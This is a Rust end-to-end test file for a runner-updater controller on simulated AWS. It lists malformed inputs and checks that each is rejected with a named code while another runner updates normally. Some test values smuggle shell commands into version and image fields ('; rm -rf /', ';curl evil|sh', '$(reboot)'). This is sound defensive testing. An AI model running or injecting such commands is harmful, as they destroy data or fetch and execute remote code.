//! The catalogue of bad input, end to end on the simulated AWS: every case is a named piece of
//! bad input on runner-a (a desired value, the runner's AWS side, its persisted record, its
//! lease) while runner-b has a valid update to make. For each case:
//! - runner-a's status and its trace (`check runner-a` span) name the reason by its code;
//! - nothing on AWS changes for runner-a: no task definition, no service update, no change set;
//! - nothing is lost: an unreadable record is left exactly as it was;
//! - runner-b, driven by the same controller in the same passes, is updated (Done).
//!
//! `tests/e2e_moto.rs` runs the most important ones against moto with the real binary.

#![allow(clippy::unwrap_used, clippy::expect_used)] // a panic in a test is a failure with a message

#[path = "common/scoped_tracing.rs"]
mod scoped_tracing;

use std::sync::Arc;

use opentelemetry::trace::TracerProvider as _;
use opentelemetry_sdk::trace::{InMemorySpanExporter, SdkTracerProvider};
use runner_updater_adapters::store::SsmStore;
use runner_updater_config::{Config, EMBEDDED_CONFIG};
use runner_updater_core::machine::phase::Phase;
use runner_updater_interface::scenario::Scenario;
use runner_updater_ports::{Clock as _, StateItem, StateStore, StoreError, StoredRecord};
use tracing_subscriber::layer::SubscriberExt;

const PREFIX: &str = "/runner-updater";

/// What is wrong, and where.
#[derive(Clone, Copy)]
enum Bad {
    /// `desired/<key>` = value (with `desired/version` = 2.14.0 unless the key is the version).
    Desired(&'static str, &'static str),
    /// `desired/<key>` deleted.
    Removed(&'static str),
    /// The release document `<runner>/release` (beside a valid `desired/version` = 2.14.0,
    /// which it overrides).
    Release(&'static str),
    /// A desired value made by a function (long values).
    DesiredLong(&'static str, fn() -> String),
    /// runner-a's configuration points at something that does not exist.
    Config(fn(&mut Config)),
    /// A stack of runner-a in this status.
    StackStatus(&'static str),
    /// runner-a's persisted record replaced by this text.
    Record(&'static str),
    /// Garbage in runner-a's lease.
    Lease(&'static str),
    /// On the DynamoDB state table: runner-a's item holds this text where its record belongs
    /// (an item written by hand, or by something else).
    TableItem(&'static str),
}

struct Case {
    name: &'static str,
    bad: Bad,
    /// The reason's code in status and trace.
    code: &'static str,
}

/// runner-b's record after a rollback, complete and valid (from the demo): copied by hand to
/// runner-a's path, it must be refused, not adopted.
const RUNNER_B_RECORD: &str = r#"{"schema_version":1,"runner":"runner-b","phase":"rolled_back","since":1740823430000,"attempt":{"id":"runner-b-1-67c2db40","target_version":"2.15.0","target_image":"registry.example/runner:2.15.0","from_version":"2.13.0","from_image":"registry.example/runner:2.13.0","started_at":1740823360000},"lock_epoch":1,"baseline":{"task_definition_arn":"arn:aws:ecs:eu-west-1:123456789012:task-definition/runner-b:1","deployment_ids":["ecs-svc/0000000000000000002"]},"failure":{"code":"unhealthy-tasks","reason":"3 task(s) of the new revision failed and 0 are unhealthy (fail-fast threshold 2)"},"attempts_started":1,"failed":[{"version":"2.15.0","image":"registry.example/runner:2.15.0","reason":"unhealthy-tasks: 3 task(s) of the new revision failed and 0 are unhealthy (fail-fast threshold 2)","at":1740823390000}],"note":{"code":"not-failed","message":"2.15.0 (registry.example/runner:2.15.0) is quarantined: unhealthy-tasks: 3 task(s) of the new revision failed and 0 are unhealthy (fail-fast threshold 2); change the desired version or image to try again","at":1740823490000},"verdict":[{"rule":"channel","passed":true,"reason":"channel stable is the controller's channel"},{"rule":"auto-update","passed":true,"reason":"auto-update is on"},{"rule":"infrastructure","passed":true,"reason":"no infrastructure version required"},{"rule":"newer-version","passed":true,"reason":"2.15.0 is newer than the running 2.13.0"},{"rule":"different-image","passed":true,"reason":"registry.example/runner:2.15.0 differs from the running registry.example/runner:2.13.0"},{"rule":"not-failed","passed":false,"reason":"2.15.0 (registry.example/runner:2.15.0) is quarantined: unhealthy-tasks: 3 task(s) of the new revision failed and 0 are unhealthy (fail-fast threshold 2); change the desired version or image to try again"}],"transitions":[{"from":"awaiting_rollout","to":"rolling_back","at":1740823390000,"attempt":"runner-b-1-67c2db40","note":"3 task(s) of the new revision failed and 0 are unhealthy (fail-fast threshold 2)"},{"from":"rolling_back","to":"rolled_back","at":1740823430000,"attempt":"runner-b-1-67c2db40","note":"3 task(s) of the new revision failed and 0 are unhealthy (fail-fast threshold 2)"}]}"#;
/// The same with runner-a's name but runner-b's attempt.
const RUNNER_B_ATTEMPT_IN_A: &str = r#"{"schema_version":1,"runner":"runner-a","phase":"rolled_back","since":1740823430000,"attempt":{"id":"runner-b-1-67c2db40","target_version":"2.15.0","target_image":"registry.example/runner:2.15.0","from_version":"2.13.0","from_image":"registry.example/runner:2.13.0","started_at":1740823360000},"lock_epoch":1,"baseline":{"task_definition_arn":"arn:aws:ecs:eu-west-1:123456789012:task-definition/runner-b:1","deployment_ids":["ecs-svc/0000000000000000002"]},"failure":{"code":"unhealthy-tasks","reason":"3 task(s) of the new revision failed and 0 are unhealthy (fail-fast threshold 2)"},"attempts_started":1,"failed":[{"version":"2.15.0","image":"registry.example/runner:2.15.0","reason":"unhealthy-tasks: 3 task(s) of the new revision failed and 0 are unhealthy (fail-fast threshold 2)","at":1740823390000}],"note":{"code":"not-failed","message":"2.15.0 (registry.example/runner:2.15.0) is quarantined: unhealthy-tasks: 3 task(s) of the new revision failed and 0 are unhealthy (fail-fast threshold 2); change the desired version or image to try again","at":1740823490000},"verdict":[{"rule":"channel","passed":true,"reason":"channel stable is the controller's channel"},{"rule":"auto-update","passed":true,"reason":"auto-update is on"},{"rule":"infrastructure","passed":true,"reason":"no infrastructure version required"},{"rule":"newer-version","passed":true,"reason":"2.15.0 is newer than the running 2.13.0"},{"rule":"different-image","passed":true,"reason":"registry.example/runner:2.15.0 differs from the running registry.example/runner:2.13.0"},{"rule":"not-failed","passed":false,"reason":"2.15.0 (registry.example/runner:2.15.0) is quarantined: unhealthy-tasks: 3 task(s) of the new revision failed and 0 are unhealthy (fail-fast threshold 2); change the desired version or image to try again"}],"transitions":[{"from":"awaiting_rollout","to":"rolling_back","at":1740823390000,"attempt":"runner-b-1-67c2db40","note":"3 task(s) of the new revision failed and 0 are unhealthy (fail-fast threshold 2)"},{"from":"rolling_back","to":"rolled_back","at":1740823430000,"attempt":"runner-b-1-67c2db40","note":"3 task(s) of the new revision failed and 0 are unhealthy (fail-fast threshold 2)"}]}"#;

const fn case(name: &'static str, bad: Bad, code: &'static str) -> Case {
    Case { name, bad, code }
}

fn eight_kib() -> String {
    "9".repeat(8 * 1024)
}

fn long_image() -> String {
    format!("registry.example/runner:{}", "a".repeat(8 * 1024))
}

fn long_parameters() -> String {
    format!("{{\"Size\": \"{}\"}}", "1".repeat(8 * 1024))
}

const CASES: &[Case] = &[
    // desired/version
    case("version absent", Bad::Removed("version"), "missing-version"),
    case(
        "version empty",
        Bad::Desired("version", ""),
        "invalid-version",
    ),
    case(
        "version only whitespace",
        Bad::Desired("version", "   "),
        "invalid-version",
    ),
    case(
        "version padded with spaces",
        Bad::Desired("version", " 2.14.0 "),
        "invalid-version",
    ),
    case(
        "version with a leading v",
        Bad::Desired("version", "v2.14.0"),
        "invalid-version",
    ),
    case(
        "version with two numbers",
        Bad::Desired("version", "2.14"),
        "invalid-version",
    ),
    case(
        "version as a word",
        Bad::Desired("version", "latest"),
        "invalid-version",
    ),
    case(
        "version in full-width digits",
        Bad::Desired("version", "２.１４.０"),
        "invalid-version",
    ),
    case(
        "version with a zero-width space",
        Bad::Desired("version", "2.14.0\u{200b}"),
        "invalid-version",
    ),
    case(
        "version with a Cyrillic look-alike",
        Bad::Desired("version", "2.14.О"),
        "invalid-version",
    ),
    case(
        "version of 8 KiB",
        Bad::DesiredLong("version", eight_kib),
        "value-too-long",
    ),
    case(
        "version as a JSON object",
        Bad::Desired("version", "{\"version\": \"2.14.0\"}"),
        "invalid-version",
    ),
    case(
        "version negative",
        Bad::Desired("version", "-2.14.0"),
        "invalid-version",
    ),
    case(
        "version with a shell command",
        Bad::Desired("version", "2.14.0; rm -rf /"),
        "invalid-version",
    ),
    case(
        "version on two lines",
        Bad::Desired("version", "2.14.0\n2.15.0"),
        "invalid-version",
    ),
    case(
        "version a downgrade",
        Bad::Desired("version", "2.12.0"),
        "newer-version",
    ),
    case(
        "version a pre-release on stable",
        Bad::Desired("version", "2.14.0-rc.1"),
        "pre-release-not-allowed",
    ),
    // desired/image
    case(
        "image outside the allow-list",
        Bad::Desired("image", "evil.example/runner:2.14.0"),
        "image-not-allowed",
    ),
    case(
        "image with a shell command",
        Bad::Desired("image", "registry.example/runner:2.14.0;curl evil|sh"),
        "invalid-image",
    ),
    case(
        "image with command substitution",
        Bad::Desired("image", "registry.example/runner:$(reboot)"),
        "invalid-image",
    ),
    case(
        "image without a tag",
        Bad::Desired("image", "registry.example/runner"),
        "invalid-image",
    ),
    case(
        "image of 8 KiB",
        Bad::DesiredLong("image", long_image),
        "value-too-long",
    ),
    case(
        "image host with a Cyrillic look-alike",
        Bad::Desired("image", "rеgistry.example/runner:2.14.0"),
        "invalid-image",
    ),
    case(
        "image as JSON",
        Bad::Desired("image", "{\"image\": 1}"),
        "invalid-image",
    ),
    case(
        "image with a space",
        Bad::Desired("image", "registry.example/runner: 2.14.0"),
        "invalid-image",
    ),
    case(
        "image the running one",
        Bad::Desired("image", "registry.example/runner:2.13.0"),
        "different-image",
    ),
    // desired/channel and desired/auto-update
    case(
        "channel unknown",
        Bad::Desired("channel", "nightly"),
        "unknown-channel",
    ),
    case(
        "channel another known one",
        Bad::Desired("channel", "beta"),
        "channel",
    ),
    case(
        "channel in capitals",
        Bad::Desired("channel", "STABLE"),
        "unknown-channel",
    ),
    case(
        "auto-update garbage",
        Bad::Desired("auto-update", "maybe"),
        "invalid-auto-update",
    ),
    // desired/update-window (issue 20)
    case(
        "update window that does not parse",
        Bad::Desired("update-window", "weekends at night"),
        "invalid-update-window",
    ),
    case(
        "update window in a time zone that does not exist",
        Bad::Desired("update-window", "Sat 02:00-05:00 Mars/Olympus"),
        "invalid-update-window",
    ),
    case(
        "update window empty",
        Bad::Desired("update-window", ""),
        "invalid-update-window",
    ),
    case(
        "update window that lasts no time",
        Bad::Desired("update-window", "Sat 02:00-02:00 UTC"),
        "invalid-update-window",
    ),
    case(
        "update window closed (Sunday 03:00 in Berlin, the demo starts on a Saturday)",
        Bad::Desired("update-window", "Sun 03:00-04:00 Europe/Berlin"),
        "update-window",
    ),
    case(
        "auto-update off",
        Bad::Desired("auto-update", "false"),
        "auto-update",
    ),
    // infrastructure
    case(
        "infra-version with a space",
        Bad::Desired("infra-version", "2 beta"),
        "invalid-infra-version",
    ),
    case(
        "infra-version with a shell command",
        Bad::Desired("infra-version", "2;reboot"),
        "invalid-infra-version",
    ),
    case(
        "infra-version of 8 KiB",
        Bad::DesiredLong("infra-version", eight_kib),
        "value-too-long",
    ),
    case(
        "infra-version without templates",
        Bad::Desired("infra-version", "2"),
        "infrastructure",
    ),
    case(
        "template for an unknown stack",
        Bad::Desired(
            "stacks/nope/template-url",
            "https://t.s3.amazonaws.com/x.json",
        ),
        "unknown-stack",
    ),
    case(
        "template over plain http",
        Bad::Desired(
            "stacks/runner-a-main/template-url",
            "http://t.s3.amazonaws.com/x.json",
        ),
        "invalid-template-url",
    ),
    case(
        "template not a URL",
        Bad::Desired("stacks/runner-a-main/template-url", "not a url"),
        "invalid-template-url",
    ),
    case(
        "template without infra-version",
        Bad::Desired(
            "stacks/runner-a-main/template-url",
            "https://t.s3.amazonaws.com/x.json",
        ),
        "template-without-infra-version",
    ),
    case(
        "parameters not JSON",
        Bad::Desired("stacks/runner-a-main/parameters", "{oops"),
        "invalid-stack-parameters",
    ),
    case(
        "parameters a JSON array",
        Bad::Desired("stacks/runner-a-main/parameters", "[1, 2]"),
        "invalid-stack-parameters",
    ),
    case(
        "parameters a JSON string",
        Bad::Desired("stacks/runner-a-main/parameters", "\"Size=3\""),
        "invalid-stack-parameters",
    ),
    case(
        "parameters of 8 KiB",
        Bad::DesiredLong("stacks/runner-a-main/parameters", long_parameters),
        "value-too-long",
    ),
    case(
        "parameters for an unknown stack",
        Bad::Desired("stacks/nope/parameters", "{\"Size\": \"3\"}"),
        "unknown-stack",
    ),
    // the release document
    case(
        "release not JSON",
        Bad::Release("{\"version\": \"2.14.0\""),
        "invalid-release",
    ),
    case(
        "release a JSON string",
        Bad::Release("\"2.14.0\""),
        "invalid-release",
    ),
    case(
        "release with a misspelt key",
        Bad::Release("{\"version\": \"2.14.0\", \"imgae\": \"registry.example/runner:2.14.1\"}"),
        "invalid-release",
    ),
    case(
        "release version as a number",
        Bad::Release("{\"version\": 2.14}"),
        "invalid-release",
    ),
    case(
        "release without a version",
        Bad::Release("{\"image\": \"registry.example/runner:2.14.0\"}"),
        "missing-version",
    ),
    case(
        "release version with a leading v",
        Bad::Release("{\"version\": \"v2.14.0\"}"),
        "invalid-version",
    ),
    case(
        "release image outside the allow-list",
        Bad::Release("{\"version\": \"2.14.0\", \"image\": \"evil.example/runner:2.14.0\"}"),
        "image-not-allowed",
    ),
    case(
        "release image with a shell command",
        Bad::Release("{\"version\": \"2.14.0\", \"image\": \"registry.example/runner:$(reboot)\"}"),
        "invalid-image",
    ),
    case(
        "release pre-release on stable",
        Bad::Release("{\"version\": \"2.14.0-rc.1\"}"),
        "pre-release-not-allowed",
    ),
    case(
        "release for an unknown stack",
        Bad::Release("{\"version\": \"2.14.0\", \"stacks\": {\"nope\": {}}}"),
        "unknown-stack",
    ),
    case(
        "release stack parameters a JSON array",
        Bad::Release(
            "{\"version\": \"2.14.0\", \"stacks\": {\"runner-a-main\": {\"parameters\": [1]}}}",
        ),
        "invalid-stack-parameters",
    ),
    // the runner's AWS side
    case(
        "stack UPDATE_ROLLBACK_FAILED",
        Bad::StackStatus("UPDATE_ROLLBACK_FAILED"),
        "stack-failed",
    ),
    case(
        "stack ROLLBACK_COMPLETE",
        Bad::StackStatus("ROLLBACK_COMPLETE"),
        "stack-failed",
    ),
    case(
        "stack ROLLBACK_FAILED",
        Bad::StackStatus("ROLLBACK_FAILED"),
        "stack-failed",
    ),
    case(
        "stack CREATE_FAILED",
        Bad::StackStatus("CREATE_FAILED"),
        "stack-failed",
    ),
    case(
        "stack DELETE_FAILED",
        Bad::StackStatus("DELETE_FAILED"),
        "stack-failed",
    ),
    case(
        "stack UPDATE_ROLLBACK_IN_PROGRESS",
        Bad::StackStatus("UPDATE_ROLLBACK_IN_PROGRESS"),
        "stack-busy",
    ),
    case(
        "service that does not exist",
        Bad::Config(|c| c.runners[0].service = "runner-zz".to_owned()),
        "service-not-found",
    ),
    case(
        "cluster that does not exist",
        Bad::Config(|c| c.runners[0].cluster = "nowhere".to_owned()),
        "service-not-found",
    ),
    case(
        "task definition without the container",
        Bad::Config(|c| c.runners[0].container = "sidecar".to_owned()),
        "container-not-found",
    ),
    // the persisted record and the lease
    case(
        "record truncated",
        Bad::Record("{\"schema_version\":1,\"runner\":\"runner-a\",\"pha"),
        "record-corrupt",
    ),
    case(
        "record not JSON",
        Bad::Record("\u{0}\u{1}garbage"),
        "record-corrupt",
    ),
    case(
        "record from a newer controller",
        Bad::Record("{\"schema_version\":99,\"runner\":\"runner-a\"}"),
        "record-newer-schema",
    ),
    case(
        "record of the wrong shape",
        Bad::Record("[1,2,3]"),
        "record-corrupt",
    ),
    // Issue 14, defect 2: a record copied by hand, or restored into the wrong path, was
    // adopted and then written to its own runner's path with this runner's task definitions.
    case(
        "record naming another runner",
        Bad::Record(RUNNER_B_RECORD),
        "record-invalid",
    ),
    case(
        "record holding another runner's attempt",
        Bad::Record(RUNNER_B_ATTEMPT_IN_A),
        "record-invalid",
    ),
    case(
        "lease parameter with garbage",
        Bad::Lease("garbage{"),
        "lock-busy",
    ),
    // the state table (the `dynamodb` backend)
    case(
        "state table item that is not a record",
        Bad::TableItem("{\"id\": 42, \"owner\": \"someone else\"}"),
        "record-corrupt",
    ),
    case(
        "state table item with a truncated record",
        Bad::TableItem("{\"schema_version\":1,\"runner\":\"runner-a\",\"pha"),
        "record-corrupt",
    ),
    case(
        "state table item naming another runner",
        Bad::TableItem(RUNNER_B_RECORD),
        "record-invalid",
    ),
];

struct Outcome {
    /// The reason code status shows for runner-a.
    status_code: Option<String>,
    /// The outcomes of runner-a's check spans.
    traced: Vec<String>,
    failures: Vec<String>,
}

async fn run(case: &Case) -> Outcome {
    let exporter = InMemorySpanExporter::default();
    let provider = SdkTracerProvider::builder()
        .with_simple_exporter(exporter.clone())
        .build();
    let subscriber = tracing_subscriber::registry()
        .with(tracing_opentelemetry::layer().with_tracer(provider.tracer("test")));
    let _guard = scoped_tracing::set_default(subscriber);

    let mut s = Scenario::with_config(9, Config::from_toml(EMBEDDED_CONFIG).unwrap()).unwrap();
    if let Bad::Config(change) = case.bad {
        // The world as it is; the controller's configuration pointing elsewhere.
        change(&mut s.config);
    }
    let store: Arc<dyn StateStore> = if let Bad::TableItem(_) = case.bad {
        s.use_state_table("controller-1");
        s.store.clone()
    } else {
        Arc::new(SsmStore::new(Arc::new(s.aws.ssm.clone()), PREFIX))
    };
    s.store = store.clone();
    s.set_desired("runner-b", "version", "2.14.0");
    plant(&s, case);
    let mut failures = Vec::new();
    let b_done = drive(&s, case, &mut failures).await;
    provider.force_flush().unwrap();
    if !b_done {
        failures.push("runner-b was not updated: the bad input spilled over".to_owned());
    }
    failures.extend(effects_on_runner_a(&s));
    let status_code = shown_code(&s, store.as_ref(), case, &mut failures).await;
    let traced = exporter
        .get_finished_spans()
        .unwrap()
        .iter()
        .filter(|span| span.name == "check runner-a")
        .filter_map(|span| {
            span.attributes
                .iter()
                .find(|kv| kv.key.as_str() == "outcome")
                .map(|kv| kv.value.to_string())
        })
        .collect();
    Outcome {
        status_code,
        traced,
        failures,
    }
}

/// Runner-a's record in SSM.
const RAW_RECORD: &str = "/runner-updater/runner-a/status";

/// Plants the case's bad input beside a good desired version.
fn plant(s: &Scenario, case: &Case) {
    assert_eq!(RAW_RECORD, format!("{PREFIX}/runner-a/status"));
    match case.bad {
        Bad::Desired("version", value) => s.set_desired("runner-a", "version", value),
        Bad::DesiredLong("version", value) => s.set_desired("runner-a", "version", &value()),
        Bad::Desired(key, value) => {
            s.set_desired("runner-a", "version", "2.14.0");
            s.set_desired("runner-a", key, value);
        }
        Bad::DesiredLong(key, value) => {
            s.set_desired("runner-a", "version", "2.14.0");
            s.set_desired("runner-a", key, &value());
        }
        Bad::Removed(key) => s.clear_desired("runner-a", key),
        Bad::Release(text) => {
            s.set_desired("runner-a", "version", "2.14.0");
            s.set_release("runner-a", text);
        }
        Bad::StackStatus(status) => {
            s.set_desired("runner-a", "version", "2.14.0");
            s.aws.cfn.set_status("runner-a-main", status.into());
        }
        Bad::Config(_) => s.set_desired("runner-a", "version", "2.14.0"),
        Bad::Record(text) => {
            s.set_desired("runner-a", "version", "2.14.0");
            s.aws.ssm.set(RAW_RECORD, text);
        }
        Bad::TableItem(text) => {
            s.set_desired("runner-a", "version", "2.14.0");
            s.aws.table.put_item(StateItem {
                runner: "runner-a".to_owned(),
                lease: None,
                record: Some(StoredRecord {
                    text: text.to_owned(),
                    version: 1,
                }),
            });
        }
        Bad::Lease(text) => {
            s.set_desired("runner-a", "version", "2.14.0");
            s.aws
                .ssm
                .set(&format!("{PREFIX}/runner-a/lock/000000000001"), text);
        }
    }
}

/// Passes of both runners until runner-b is done, then a few of runner-a alone; runner-a's
/// failed passes are failures unless the case is an unreadable record (its pass fails by
/// design, with the record's code). Returns whether runner-b was updated.
async fn drive(s: &Scenario, case: &Case, failures: &mut Vec<String>) -> bool {
    let mut a = s.driver("runner-a").unwrap();
    let mut b = s.driver("runner-b").unwrap();
    let mut b_done = false;
    let mut tick_a = |result: Result<
        runner_updater_runtime::driver::TickReport,
        runner_updater_runtime::driver::DriverError,
    >| {
        match (result, case.bad) {
            (Ok(_), _) => {}
            (
                Err(runner_updater_runtime::driver::DriverError::Store(StoreError::Record(e))),
                Bad::Record(_) | Bad::TableItem(_),
            ) if e.code().as_str() == case.code => {}
            (Err(error), _) => failures.push(format!("runner-a's pass failed: {error}")),
        }
    };
    for _ in 0..80 {
        tick_a(a.tick().await);
        let report = b.tick().await.unwrap();
        b_done |= report.transitions.iter().any(|t| t.to == Phase::Done);
        if b_done {
            break;
        }
        s.aws.clock.sleep(b.requeue_after()).await;
    }
    // A few more passes of runner-a alone: still nothing.
    for _ in 0..3 {
        tick_a(a.tick().await);
        s.aws.clock.sleep(a.requeue_after()).await;
    }
    b_done
}

/// What was done to runner-a (nothing is expected): registrations, service updates, change
/// sets, on its service in the world and where the (maybe changed) configuration points.
fn effects_on_runner_a(s: &Scenario) -> Vec<String> {
    let mut failures = Vec::new();
    let runner_a_td = "task-definition/runner-a:".to_owned();
    let runner_a_services = {
        let c = s.config.runner("runner-a").unwrap();
        [
            ("runners".to_owned(), "runner-a".to_owned()),
            (c.cluster.clone(), c.service.clone()),
        ]
    };
    let registered: Vec<String> = s
        .aws
        .ecs
        .registrations()
        .into_iter()
        .filter(|arn| arn.contains(&runner_a_td))
        .collect();
    if !registered.is_empty() {
        failures.push(format!("runner-a got task definitions {registered:?}"));
    }
    let updates: Vec<_> = s
        .aws
        .ecs
        .updates()
        .into_iter()
        .filter(|u| runner_a_services.contains(&(u.cluster.clone(), u.service.clone())))
        .collect();
    if !updates.is_empty() {
        failures.push(format!("runner-a's service was updated: {updates:?}"));
    }
    let change_sets = s.aws.cfn.creations();
    if !change_sets.is_empty() {
        failures.push(format!("change sets were created: {change_sets:?}"));
    }
    failures
}

/// The code `runner-updater status` shows for runner-a (the product's own path); checks
/// runner-b shows Done and an unreadable record was left as it was.
async fn shown_code(
    s: &Scenario,
    store: &dyn StateStore,
    case: &Case,
    failures: &mut Vec<String>,
) -> Option<String> {
    let ports = s.ports();
    let views = runner_updater_interface::ops::status_views(
        &s.config,
        store,
        Some(ports.lock.as_ref()),
        &["runner-a".to_owned(), "runner-b".to_owned()],
        ports.clock.now(),
    )
    .await
    .unwrap();
    if views[1].state != "Done" {
        failures.push(format!("status shows runner-b {}", views[1].state));
    }
    let status_code = views[0].reason_code.clone();
    if let Bad::Record(text) = case.bad {
        let kept = s.aws.ssm.without_faults();
        let now = runner_updater_ports::ParameterStore::get(&kept, RAW_RECORD)
            .await
            .unwrap()
            .map(|p| p.value);
        if now.as_deref() != Some(text) {
            failures.push(format!("the unreadable record was changed to {now:?}"));
        }
    }
    if let Bad::TableItem(text) = case.bad {
        let kept = s.aws.table.item("runner-a").and_then(|item| item.record);
        if kept.as_ref().map(|r| (r.text.as_str(), r.version)) != Some((text, 1)) {
            failures.push(format!(
                "the item that is not a record was changed to {kept:?}"
            ));
        }
    }
    if let Bad::Lease(_) = case.bad {
        // Nobody may write runner-a's record while its lease is unreadable: status shows no
        // record, and names the lease's holder.
        match (&views[0].lease, status_code.as_deref()) {
            (runner_updater_interface::report::LeaseView::Held(holder), Some("no-record"))
                if holder.starts_with("unreadable-lease") =>
            {
                Some("lock-busy".to_owned())
            }
            (other, code) => Some(format!("lease {other:?}, status {code:?}")),
        }
    } else {
        status_code
    }
}

#[tokio::test]
async fn every_case_of_bad_input_is_named_acts_on_nothing_and_spares_the_other_runners() {
    assert!(CASES.len() >= 40, "the catalogue has {} cases", CASES.len());
    let mut failures = Vec::new();
    for case in CASES {
        let outcome = run(case).await;
        let mut problems = outcome.failures;
        if outcome.status_code.as_deref() != Some(case.code) {
            problems.push(format!(
                "status says {:?}, expected {:?}",
                outcome.status_code, case.code
            ));
        }
        if !outcome.traced.iter().any(|code| code == case.code) {
            problems.push(format!(
                "no check span with outcome {:?} (traced: {:?})",
                case.code, outcome.traced
            ));
        }
        if !problems.is_empty() {
            failures.push(format!("{}: {}", case.name, problems.join("; ")));
        }
    }
    assert!(
        failures.is_empty(),
        "{} of {} cases failed:\n{}",
        failures.len(),
        CASES.len(),
        failures.join("\n")
    );
    println!("{} cases of bad input checked", CASES.len());
}

/// The state table throttling every write, then denying access: each pass names the reason
/// (`ThrottlingException`, `AccessDeniedException`), nothing is written, nothing on AWS
/// changes; once the table answers again, the update goes through.
#[tokio::test]
async fn a_state_table_that_throttles_or_denies_access_is_named_and_nothing_moves() {
    use runner_updater_ports::{AwsOp, ErrorKind};
    // Runs beside the catalogue, which captures its thread's spans.
    scoped_tracing::install();
    let mut s = Scenario::with_config(9, Config::from_toml(EMBEDDED_CONFIG).unwrap()).unwrap();
    s.use_state_table("controller-1");
    s.set_desired("runner-b", "version", "2.14.0");
    let mut b = s.driver("runner-b").unwrap();
    for (kind, message) in [
        (
            ErrorKind::Throttled,
            "ThrottlingException (HTTP 400): Throughput exceeds the current capacity of your table",
        ),
        (
            ErrorKind::Permanent,
            "AccessDeniedException (HTTP 400): User is not authorized to perform: dynamodb:UpdateItem",
        ),
    ] {
        for _ in 0..50 {
            s.aws.table.faults.push_error(AwsOp::UpdateItem, kind, message);
        }
        for _ in 0..3 {
            let error = b.tick().await.expect_err("a pass that cannot write");
            let said = error.to_string();
            let code = message.split_once(' ').unwrap().0;
            assert!(said.contains(code), "{said}");
            s.aws.clock.sleep(b.requeue_after()).await;
        }
        assert!(s.aws.table.item("runner-b").is_none(), "nothing written");
        assert!(s.aws.ecs.registrations().is_empty() && s.aws.ecs.updates().is_empty());
        s.aws.table.faults.clear();
    }
    let mut done = false;
    for _ in 0..80 {
        let report = b.tick().await.unwrap();
        done |= report.transitions.iter().any(|t| t.to == Phase::Done);
        if done {
            break;
        }
        s.aws.clock.sleep(b.requeue_after()).await;
    }
    assert!(done, "the update goes through once the table answers");
}
